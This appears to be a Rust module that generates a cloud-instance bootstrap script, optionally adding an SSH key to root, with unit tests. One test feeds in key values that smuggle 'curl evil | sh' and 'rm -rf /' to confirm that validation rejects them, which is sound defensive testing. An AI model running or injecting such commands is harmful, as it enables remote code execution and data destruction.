//! User-data script generation
//!
//! The script only prepares the host: it installs CA certificates, creates
//! the directory the probe binary is uploaded to and, when a public key is
//! configured, appends it to root's `authorized_keys`.

use crate::config::{validate_public_key, ConfigError};

/// Generate the bash user-data script for an instance.
///
/// Returns an error if the public key is unsafe to interpolate into the
/// single-quoted `echo` line.
pub fn generate_user_data(public_key: Option<&str>) -> Result<String, ConfigError> {
    let key_block = match public_key {
        Some(key) => {
            validate_public_key(key)?;
            format!(
                r#"
mkdir -p /root/.ssh
chmod 700 /root/.ssh
echo '{key}' >> /root/.ssh/authorized_keys
chmod 600 /root/.ssh/authorized_keys
chown -R root:root /root/.ssh
"#
            )
        }
        None => String::new(),
    };

    Ok(format!(
        r#"#!/bin/bash
set -uo pipefail

exec > >(tee /var/log/vultr-latency-bootstrap.log) 2>&1
{key_block}
export DEBIAN_FRONTEND=noninteractive
apt-get update -y || true
apt-get install -y ca-certificates || true
update-ca-certificates || true

mkdir -p /usr/local/bin
echo "Host prepared for latency probe"
"#
    ))
}

#[cfg(test)]
mod tests {
    use super::*;

    const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITestKey me@laptop";

    #[test]
    fn test_user_data_without_key() {
        let script = generate_user_data(None).unwrap();
        assert!(script.starts_with("#!/bin/bash"));
        assert!(script.contains("ca-certificates"));
        assert!(script.contains("mkdir -p /usr/local/bin"));
        assert!(!script.contains("authorized_keys"));
    }

    #[test]
    fn test_user_data_injects_key() {
        let script = generate_user_data(Some(KEY)).unwrap();
        assert!(script.contains(&format!("echo '{KEY}' >> /root/.ssh/authorized_keys")));
        assert!(script.contains("chmod 600 /root/.ssh/authorized_keys"));
    }

    #[test]
    fn test_user_data_rejects_injection() {
        assert!(generate_user_data(Some("ssh-rsa AAAA'; curl evil | sh; echo '")).is_err());
        assert!(generate_user_data(Some("ssh-rsa AAAA\nrm -rf /")).is_err());
    }
}
